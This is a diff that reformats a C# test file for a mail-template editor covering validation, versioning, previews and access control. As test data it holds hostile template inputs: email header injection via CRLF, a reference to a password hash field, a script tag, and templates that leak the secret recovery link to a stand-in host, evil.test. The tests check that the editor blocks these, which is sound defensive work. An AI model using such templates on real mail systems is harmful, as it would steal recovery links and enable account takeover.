@@ -26,7 +26,8 @@ public sealed class TemplateEditorTests(PostgresCluster cluster)
         await using var ann = await AdministratorAsync(portal, "ann");
         await using (var work = await portal.BeginAsync())
         {
-            work.Add(new MailTemplate { Key = "test", Subject = "{% if no_such_field %}x{% endif %}", HtmlBody = "", TextBody = "", ChangedBy = "Ann" });
+            work.Add(
+                new MailTemplate { Key = "test", Subject = "{% if no_such_field %}x{% endif %}", HtmlBody = "", TextBody = "", ChangedBy = "Ann" });
             await work.CommitAsync();
         }
 
@@ -53,7 +54,9 @@ public sealed class TemplateEditorTests(PostgresCluster cluster)
         portal.Advance(TimeSpan.FromMinutes(1));
         Assert.IsType<TemplateOutcome.Saved>(await editor.SaveAsync(Template, first with { Text = Default.Text + "second" }, 1));
         // Nothing differs, so there is no new version and no event.
-        Assert.Equal(2, Assert.IsType<TemplateOutcome.Saved>(await editor.SaveAsync(Template, first with { Text = Default.Text + "second" }, 2)).Now.Version);
+        Assert.Equal(
+            2,
+            Assert.IsType<TemplateOutcome.Saved>(await editor.SaveAsync(Template, first with { Text = Default.Text + "second" }, 2)).Now.Version);
 
         Assert.Equal((3, true, "ann"), Standing(Assert.IsType<TemplateOutcome.Saved>(await editor.ResetAsync(Template, 2)).Now));
         Assert.Equal(Default, (await editor.ReadAsync(Template.Key))!.Text);
@@ -93,7 +96,9 @@ public sealed class TemplateEditorTests(PostgresCluster cluster)
                 new TemplateFault.RequiredMissing(TemplateParts.Text, "link"),
             ],
             await FindFaultsAsync(new("{{ link }}", "{{ link }}\n{{ User.PasswordHash }}", "nothing")));
-        Assert.Equal(new TextPlace(3, 3), Assert.IsType<TemplateFault.Syntax>(Assert.Single(await FindFaultsAsync(Default with { Html = "a\nb\n{{ }}" }))).At);
+        Assert.Equal(
+            new TextPlace(3, 3),
+            Assert.IsType<TemplateFault.Syntax>(Assert.Single(await FindFaultsAsync(Default with { Html = "a\nb\n{{ }}" }))).At);
         Assert.IsType<TemplateFault.TooLong>(Assert.Single(await FindFaultsAsync(Default with { Text = new string('x', 60_001) })));
         Assert.IsType<TemplateFault.Unprintable>(Assert.Single(await FindFaultsAsync(Default with { Subject = "a\r\nBcc: b@c.test" })));
         Assert.IsType<TemplateFault.ActiveContent>(Assert.Single(await FindFaultsAsync(Default with { Html = Default.Html + "<script>" })));
@@ -103,10 +108,16 @@ public sealed class TemplateEditorTests(PostgresCluster cluster)
         // An older version that names a field which no longer exists.
         await using (var work = await portal.BeginAsync())
         {
-            work.Add(new MailTemplateVersion { Key = Template.Key, Version = 1, Subject = "s", HtmlBody = "{{ link }} {{ gone }}", TextBody = "{{ link }}", SavedBy = "ann", SavedAt = portal.Now });
+            work.Add(new MailTemplateVersion
+            {
+                Key = Template.Key, Version = 1,
+                Subject = "s", HtmlBody = "{{ link }} {{ gone }}", TextBody = "{{ link }}",
+                SavedBy = "ann", SavedAt = portal.Now
+            });
             await work.CommitAsync();
         }
-        Assert.IsType<TemplateFault.UnknownField>(Assert.Single(Assert.IsType<TemplateOutcome.Invalid>(await editor.RestoreAsync(Template, 1, 1)).Faults));
+        Assert.IsType<TemplateFault.UnknownField>(
+            Assert.Single(Assert.IsType<TemplateOutcome.Invalid>(await editor.RestoreAsync(Template, 1, 1)).Faults));
 
         async Task<IReadOnlyList<TemplateFault>> FindFaultsAsync(TemplateText text)
         {
@@ -148,7 +159,8 @@ public sealed class TemplateEditorTests(PostgresCluster cluster)
         await using var ann = await AdministratorAsync(portal, "ann");
         await using var bob = await AdministratorAsync(portal, "bob");
 
-        var queued = Assert.IsType<TemplateOutcome.TestQueued>(await Editor(ann).SendTestAsync(Template, Default with { Subject = "Not saved yet", Text = "Unsaved {{ link }}" }));
+        var queued = Assert.IsType<TemplateOutcome.TestQueued>(
+            await Editor(ann).SendTestAsync(Template, Default with { Subject = "Not saved yet", Text = "Unsaved {{ link }}" }));
 
         Assert.Equal("ann@example.test", queued.Address);
         var mail = await new Mailbox(portal.PickupFolder).WaitForAsync("ann@example.test", Template.Key);
@@ -176,12 +188,15 @@ public sealed class TemplateEditorTests(PostgresCluster cluster)
 
         var mail = await new Mailbox(portal.PickupFolder).WaitForAsync("ann@example.test", "test");
         Assert.StartsWith("Test message from", mail.Subject, StringComparison.Ordinal);
-        var failed = await Eventually.FoundAsync(async () => (await Editor(ann).ListAsync()).SingleOrDefault(t => t.Failure is not null), "the failure shows");
+        var failed = await Eventually.FoundAsync(
+            async () => (await Editor(ann).ListAsync()).SingleOrDefault(t => t.Failure is not null),
+            "the failure shows");
         Assert.Equal(("test", portal.Now), (failed.Template.Key, failed.Failure!.At));
         Assert.Contains("gone", failed.Failure.Why, StringComparison.Ordinal);
         Assert.Equal(1, await portal.EventsAsync<AuditEvent.TemplateFailed>());
 
-        Assert.Null(Assert.IsType<TemplateOutcome.Saved>(await Editor(ann).SaveAsync(TemplateCatalogue.Test, new("Ours", "<p>ours</p>", "ours again"), 1)).Now.Failure);
+        Assert.Null(Assert.IsType<TemplateOutcome.Saved>(
+            await Editor(ann).SaveAsync(TemplateCatalogue.Test, new("Ours", "<p>ours</p>", "ours again"), 1)).Now.Failure);
     }
 
     /// <summary>
@@ -193,14 +208,30 @@ public sealed class TemplateEditorTests(PostgresCluster cluster)
     {
         await using var portal = await PortalHost.StartAsync(await cluster.NewAsync(database));
         await using var ann = await AdministratorAsync(portal, "ann");
-        string[] bad = ["<img src=\"https://evil.test/?{{ link }}\">{{ link }}", "https://evil.test/? {{- link }}", "{% assign a = link %}<a href=\"https://evil.test/?{{ a }}\">x</a>", "<img src=\"https://evil.test/{{ recipient_name }}\"> {{ link }}"];
+        string[] bad =
+        [
+            "<img src=\"https://evil.test/?{{ link }}\">{{ link }}",
+            "https://evil.test/? {{- link }}",
+            "{% assign a = link %}<a href=\"https://evil.test/?{{ a }}\">x</a>",
+            "<img src=\"https://evil.test/{{ recipient_name }}\"> {{ link }}"
+        ];
         for (var i = 0; i < bad.Length; i++)
         {
             await using (var work = await portal.BeginAsync())
             {
-                if (i == 0) work.Add(new MailTemplate { Key = Template.Key, Subject = "Theirs", HtmlBody = bad[i], TextBody = "{{ link }}", ChangedBy = "ann", Version = 1 });
+                if (i == 0)
+                {
+                    work.Add(new MailTemplate
+                    {
+                        Key = Template.Key, Subject = "Theirs", HtmlBody = bad[i], TextBody = "{{ link }}", ChangedBy = "ann", Version = 1
+                    });
+                }
                 else await work.Query<MailTemplate>().ExecuteUpdateAsync(set => set.SetProperty(t => t.HtmlBody, bad[i]));
-                work.Queue(new MailDraft.LostDeviceLink(await work.Query<PortalUser>().SingleAsync(u => u.UserName == "ann"), "TOKEN", work.Now, null));
+                work.Queue(new MailDraft.LostDeviceLink(
+                    await work.Query<PortalUser>().SingleAsync(u => u.UserName == "ann"),
+                    "TOKEN",
+                    work.Now,
+                    null));
                 await work.CommitAsync();
             }
             var mail = await new Mailbox(portal.PickupFolder).WaitForAsync("ann@example.test", Template.Key, count: i + 1);
@@ -247,14 +278,17 @@ public sealed class TemplateEditorTests(PostgresCluster cluster)
         await using var portal = await PortalHost.StartAsync(new PortalSettings { PublicUrl = "https://portal.northwind.test" });
         await using var ann = await AdministratorAsync(portal, "ann");
 
-        var shown = Assert.IsType<TemplatePreview.Shown>(await Editor(ann).PreviewAsync(Template, Default with { Subject = "For {{ recipient_name }}" }));
+        var shown = Assert.IsType<TemplatePreview.Shown>(
+            await Editor(ann).PreviewAsync(Template, Default with { Subject = "For {{ recipient_name }}" }));
         Assert.Equal(("For ann", "ann@example.test"), (shown.Mail.Subject, shown.To.Address));
         Assert.Contains("https://portal.northwind.test/lost-device/confirm#sample", shown.Mail.Html, StringComparison.Ordinal);
-        Assert.IsType<TemplateFault.Syntax>(Assert.Single(Assert.IsType<TemplatePreview.Failed>(await Editor(ann).PreviewAsync(Template, Default with { Html = "{{" })).Faults));
+        Assert.IsType<TemplateFault.Syntax>(Assert.Single(Assert.IsType<TemplatePreview.Failed>(
+            await Editor(ann).PreviewAsync(Template, Default with { Html = "{{" })).Faults));
         Assert.IsType<TemplatePreview.Shown>(await Editor(ann).PreviewAsync(Template, Default with { Html = "<p>The link comes last" }));
         // As long as the limit allows with the sample's name. The frame around it adds to the length, and so would Ann's name if it were long.
         Assert.IsType<TemplatePreview.Shown>(await Editor(ann).PreviewAsync(Template, Default with { Html = Growing(99) }));
-        Assert.IsType<TemplateFault.Fails>(Assert.Single(Assert.IsType<TemplatePreview.Failed>(await Editor(ann).PreviewAsync(Template, Default with { Html = Growing(101) })).Faults));
+        Assert.IsType<TemplateFault.Fails>(Assert.Single(Assert.IsType<TemplatePreview.Failed>(
+            await Editor(ann).PreviewAsync(Template, Default with { Html = Growing(101) })).Faults));
         Assert.Null(await Editor(ann).ReadAsync("no-such-template"));
     }
 
@@ -270,8 +304,10 @@ public sealed class TemplateEditorTests(PostgresCluster cluster)
         {
             Func<Task>[] acts =
             [
-                () => editor.ListAsync(), () => editor.ReadAsync(Template.Key), () => editor.PreviewAsync(Template, Default), () => editor.SaveAsync(Template, Default with { Subject = "Eve's" }, 0),
-                () => editor.ResetAsync(Template, 0), () => editor.RestoreAsync(Template, 1, 0), () => editor.ReadHistoryAsync(Template), () => editor.SendTestAsync(Template, Default),
+                () => editor.ListAsync(), () => editor.ReadAsync(Template.Key),
+                () => editor.PreviewAsync(Template, Default), () => editor.SaveAsync(Template, Default with { Subject = "Eve's" }, 0),
+                () => editor.ResetAsync(Template, 0), () => editor.RestoreAsync(Template, 1, 0),
+                () => editor.ReadHistoryAsync(Template), () => editor.SendTestAsync(Template, Default),
             ];
             foreach (var act in acts) await Assert.ThrowsAsync<AccessRefusedException>(act);
         }
